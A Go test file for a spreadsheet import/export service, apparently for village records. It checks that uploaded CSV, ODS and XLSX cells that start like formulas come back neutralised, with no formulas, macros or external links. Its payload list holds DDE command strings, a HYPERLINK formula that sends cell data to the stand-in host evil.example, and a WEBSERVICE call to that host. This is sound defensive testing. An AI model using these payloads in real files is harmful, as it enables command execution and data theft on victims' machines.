package scenario_test

import (
	"archive/zip"
	"bytes"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// executables are texts that a sheet program would carry out if they were let
// become formulas or links.
var executables = []string{
	"=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example/?x="&A1,"klik")`,
	"\t=1+1", "=WEBSERVICE(\"http://evil.example\")", "＝1+1", "%0A-3", "http://evil.example/klik",
}

// TestWhatLeavesIsNeverCarriedOut takes in names and titles that begin as
// formulas do and looks at every file that is made of them.
func TestWhatLeavesIsNeverCarriedOut(t *testing.T) {
	t.Parallel()
	s := serve(t, dataFolder(t))
	waiting(t, s)
	duties := s.duties()
	duty := duties[desas[0]]
	l := table{{"NIK", "Nama", "Alamat", "Ket"}}
	for i, text := range executables {
		l = append(l, []string{numbered(i), text + " " + letters(i), text, text}, []string{numbered(i)[:15], text, text, text})
	}
	for _, file := range []struct {
		name    string
		content []byte
	}{{"a.csv", l.csv()}, {"a.ods", l.ods()}, {"a.xlsx", l.xlsx(t)}} {
		a := s.handed(duty, file.name, file.content)
		id := a.object["id"].(string)
		require.EqualValues(t, len(executables), a.object["bad"], "%s", a.raw)
		back, err := s.try(http.MethodGet, "/imports/"+id+"/errors.xlsx", nil, nil)
		require.NoError(t, err)
		require.Equal(t, http.StatusOK, back.status, "%s", back.raw)
		inert(t, back.raw)
		again := s.handed(duties[desas[1]], "lagi.xlsx", back.raw)
		require.EqualValues(t, len(executables), again.object["bad"], "what went out comes back as it was: %s", again.raw)
		if file.name == "a.xlsx" {
			s.made("/imports/"+id+"/accept", object{"despite": "uji"})
		}
	}
	people, _ := s.rosterOf(duty)
	require.NotEmpty(t, people)
	filled, err := s.try(http.MethodGet, "/obligations/"+duty+"/template.xlsx", nil, nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, filled.status)
	inert(t, filled.raw)
	recap := s.page("/recap.csv")
	for line := range strings.Lines(recap) {
		for field := range strings.SplitSeq(line, ",") {
			require.False(t, strings.ContainsAny(strings.Trim(field, "\"\r\n")+" ", "=@") && strings.IndexAny(strings.Trim(field, "\""), "=+-@") == 0, line)
		}
	}
}

// inert checks that nothing in a workbook is a formula of somebody's, a link
// out, a macro or anything but a sheet.
func inert(t *testing.T, content []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	require.NoError(t, err)
	for _, f := range z.File {
		require.NotContains(t, f.Name, "vbaProject")
		require.NotContains(t, f.Name, "externalLink")
		r, err := f.Open()
		require.NoError(t, err)
		raw, err := io.ReadAll(r)
		require.NoError(t, err)
		if strings.HasSuffix(f.Name, ".rels") {
			require.NotContains(t, string(raw), "evil.example", f.Name)
			require.NotContains(t, string(raw), `TargetMode="External"`, f.Name)
		}
		for _, part := range strings.Split(string(raw), "<f>")[1:] {
			formula, _, _ := strings.Cut(part, "</f>")
			require.NotContains(t, formula, "cmd", f.Name)
			require.NotContains(t, formula, "evil", f.Name)
		}
	}
	book, err := excelize.OpenReader(bytes.NewReader(content))
	require.NoError(t, err)
	for _, name := range book.GetSheetList() {
		rows, err := book.GetRows(name)
		require.NoError(t, err)
		for i, row := range rows {
			for j := range row {
				at, err := excelize.CoordinatesToCellName(j+1, i+1)
				require.NoError(t, err)
				formula, err := book.GetCellFormula(name, at)
				require.NoError(t, err)
				require.False(t, strings.Contains(formula, "cmd") || strings.Contains(formula, "evil") || strings.Contains(formula, "1+1"), "%s!%s is %q", name, at, formula)
				linked, _, err := book.GetCellHyperLink(name, at)
				require.NoError(t, err)
				if linked {
					_, target, err := book.GetCellHyperLink(name, at)
					require.NoError(t, err)
					require.NotContains(t, target, "evil", "%s!%s", name, at)
				}
			}
		}
	}
}
